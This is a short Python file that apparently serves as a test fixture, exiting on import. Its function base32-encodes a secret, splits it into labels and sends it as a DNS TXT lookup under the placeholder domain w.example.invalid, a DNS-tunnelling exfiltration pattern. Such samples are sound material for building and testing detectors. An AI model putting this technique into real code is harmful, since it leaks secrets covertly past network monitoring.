raise SystemExit('a fixture')
# held by encoded-lookup
import base64
import dns.resolver
def note(secret):
    text = base64.b32encode(secret).decode().rstrip("=").lower()
    parts = [text[i:i + 50] for i in range(0, len(text), 50)]
    dns.resolver.resolve(".".join(parts) + ".w.example.invalid", "TXT", lifetime=2)
